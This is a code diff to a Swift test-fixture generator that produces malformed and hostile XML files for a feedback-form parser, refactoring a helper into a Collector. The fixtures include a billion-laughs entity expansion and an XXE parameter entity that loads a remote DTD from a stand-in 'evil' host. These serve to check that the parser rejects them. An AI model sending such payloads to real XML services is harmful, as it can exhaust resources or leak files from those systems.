@@ -3,27 +3,7 @@ import Foundation
 /// Broken «Ваш контроль» XML: entity bombs, XXE, bytes that crash Foundation's XMLParser, bad structure, dates.
 extension HostileFiles {
     static func xml() -> [File] {
-        var files: [File] = []
-        func add(
-            _ name: String,
-            _ records: Int,
-            _ bytes: [UInt8],
-            _ damage: String,
-            _ outcome: String,
-            _ reason: String,
-            encoding: String = "UTF-8"
-        ) {
-            files.append(
-                File(
-                    name: name,
-                    format: "xml",
-                    encoding: encoding,
-                    records: records,
-                    bytes: bytes,
-                    readmeRow: "| `\(name)` | portal-mkgu | \(damage) | \(outcome) | `\(reason)` |"
-                )
-            )
-        }
+        var collector = Collector(format: "xml", layout: "portal-mkgu")
         let good = mkguForm(comment: "долго ждали в очереди")
         let prolog = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
         let body = good.replacingOccurrences(of: prolog, with: "")
@@ -34,7 +14,7 @@ extension HostileFiles {
             laughs += "  <!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">\n"
         }
         laughs += "]>\n" + body.replacingOccurrences(of: "долго ждали в очереди", with: "&lol9;")
-        add(
+        collector.add(
             "mkgu_billion_laughs.xml",
             1,
             Array(laughs.utf8),
@@ -47,7 +27,7 @@ extension HostileFiles {
             prolog
             + "<!DOCTYPE mkgu:body [\n  <!ENTITY % remote SYSTEM \"http://example.invalid/evil.dtd\">\n  %remote;\n]>\n"
             + body
-        add(
+        collector.add(
             "mkgu_parameter_entity.xml",
             1,
             Array(parameter.utf8),
@@ -63,7 +43,7 @@ extension HostileFiles {
                 with: Array("<a r".utf8) + [0xFF] + Array("=\"1\"/>".utf8)
             )
         }
-        add(
+        collector.add(
             "mkgu_invalid_utf8_attr.xml",
             1,
             attribute,
@@ -72,7 +52,7 @@ extension HostileFiles {
             "not_utf8",
             encoding: "не UTF-8"
         )
-        add(
+        collector.add(
             "mkgu_invalid_name_bare.xml",
             0,
             [0x3C, 0xF4, 0x3E, 0x3C, 0x2F, 0xF4, 0x3E],
@@ -81,7 +61,7 @@ extension HostileFiles {
             "not_utf8",
             encoding: "не UTF-8"
         )
-        add(
+        collector.add(
             "mkgu_invalid_attr_bare.xml",
             0,
             Array("<a r".utf8) + [0xFF] + Array("=\"1\"/>".utf8),
@@ -90,8 +70,8 @@ extension HostileFiles {
             "not_utf8",
             encoding: "не UTF-8"
         )
-        add("mkgu_empty.xml", 0, [], "0 байт", "файл отклонён", "empty_file", encoding: "—")
-        add(
+        collector.add("mkgu_empty.xml", 0, [], "0 байт", "файл отклонён", "empty_file", encoding: "—")
+        collector.add(
             "mkgu_not_xml.xml",
             0,
             Array("Оценка: 5, всё понравилось\n".utf8),
@@ -99,7 +79,7 @@ extension HostileFiles {
             "файл отклонён",
             "malformed_xml"
         )
-        add(
+        collector.add(
             "mkgu_mismatched_tags.xml",
             1,
             Array(good.replacingOccurrences(of: "</mkgu:data>", with: "</mkgu:date>").utf8),
@@ -107,7 +87,7 @@ extension HostileFiles {
             "файл отклонён",
             "malformed_xml"
         )
-        add(
+        collector.add(
             "mkgu_garbage_after_root.xml",
             1,
             Array((good + "<mkgu:body>ещё</mkgu:body>\n").utf8),
@@ -115,7 +95,7 @@ extension HostileFiles {
             "файл отклонён",
             "malformed_xml"
         )
-        add(
+        collector.add(
             "mkgu_utf16.xml",
             1,
             [0xFF, 0xFE] + utf16(good.replacingOccurrences(of: "UTF-8", with: "UTF-16"), littleEndian: true),
@@ -125,7 +105,7 @@ extension HostileFiles {
             encoding: "UTF-16LE"
         )
         let cp1251 = (try? CP1251Encoder().encode(good)) ?? []
-        add(
+        collector.add(
             "mkgu_cp1251_declared_utf8.xml",
             1,
             cp1251,
@@ -135,9 +115,9 @@ extension HostileFiles {
             encoding: "CP1251"
         )
         var cutUTF8 = Array(good.utf8)
-        let comment = findBytes(cutUTF8, Array("долго".utf8))!.lowerBound
+        let comment = offset(of: Array("долго".utf8), in: cutUTF8)
         cutUTF8 = Array(cutUTF8[..<(comment + 3)])
-        add(
+        collector.add(
             "mkgu_truncated_mid_utf8.xml",
             1,
             cutUTF8,
@@ -149,7 +129,7 @@ extension HostileFiles {
             of: "долго ждали в очереди",
             with: String(repeating: "<x>", count: 300) + String(repeating: "</x>", count: 300)
         )
-        add(
+        collector.add(
             "mkgu_deep.xml",
             1,
             Array(deep.utf8),
@@ -161,8 +141,8 @@ extension HostileFiles {
         if let at = findBytes(nul, Array("долго".utf8)) {
             nul.replaceSubrange(at.lowerBound..<at.lowerBound, with: [0x00])
         }
-        add("mkgu_nul_byte.xml", 1, nul, "байт NUL в тексте комментария", "файл отклонён", "malformed_xml")
-        add(
+        collector.add("mkgu_nul_byte.xml", 1, nul, "байт NUL в тексте комментария", "файл отклонён", "malformed_xml")
+        collector.add(
             "mkgu_undeclared_entity.xml",
             1,
             Array(good.replacingOccurrences(of: "долго ждали в очереди", with: "&xxe;").utf8),
@@ -190,7 +170,7 @@ extension HostileFiles {
             ),
             with: forms.joined()
         )
-        add(
+        collector.add(
             "mkgu_dates.xml",
             4,
             Array(dates.utf8),
@@ -198,6 +178,6 @@ extension HostileFiles {
             "форма 1 сохранена; 2, 3 → `date_out_of_range`; 4 → `bad_date`",
             "date_out_of_range`, `bad_date"
         )
-        return files
+        return collector.files
     }
 }
